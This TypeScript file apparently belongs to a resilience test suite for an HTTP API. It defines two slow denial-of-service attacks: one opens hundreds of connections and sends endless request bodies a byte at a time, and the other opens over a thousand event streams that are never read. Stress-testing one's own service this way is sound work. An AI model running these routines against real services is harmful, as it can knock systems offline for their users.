import { request } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'
import { again, type Assault, type Attack } from './attack.ts'

const CONNECTIONS = 300
const STREAMS = 1_500
const PIECE_EVERY_MS = 200
/** For some of the streams to be open before something happens. */
const SOME_OPEN_MS = 500

/** Sends a body that never ends, a byte at a time. */
async function sendSlowly({ url, headers, until }: Assault): Promise<void> {
  const sending = request(`${url}/v1/scopes/attacker/turns`, {
    method: 'POST',
    headers: { ...headers, 'Content-Type': 'application/json', 'Content-Length': 900_000 },
  })
  const closed = new Promise<void>((resolve) => {
    sending.once('close', resolve)
    sending.once('error', () => resolve())
  })
  sending.on('response', (response) => response.resume())
  while (performance.now() < until && !sending.destroyed) {
    sending.write(' ')
    await sleep(PIECE_EVERY_MS)
  }
  sending.destroy()
  await closed
}

/** Time is the weapon. */
export const slowAttacks: readonly Attack[] = [
  {
    name: 'slow-bodies',
    about: 'Hundreds of connections send their bodies a byte at a time.',
    run: (assault) => again(assault, CONNECTIONS, () => sendSlowly(assault)),
  },
  {
    name: 'open-streams',
    about: 'More than a thousand event streams are opened and never read, while much happens.',
    run: async (assault) => {
      const over = new AbortController()
      const open = Array.from({ length: STREAMS }, () =>
        fetch(`${assault.url}/v1/scopes/attacker/events`, {
          headers: assault.headers,
          signal: over.signal,
        }).catch(() => null),
      )
      await Promise.race([Promise.all(open.slice(0, 100)), sleep(SOME_OPEN_MS)])
      await again(assault, 4, (index) =>
        assault.send('POST', '/v1/scopes/attacker/turns', {
          turns: [{ role: 'user', text: `Number ${index}: ${'and so on '.repeat(500)}` }],
        }),
      )
      over.abort()
      await Promise.allSettled(open)
    },
  },
]
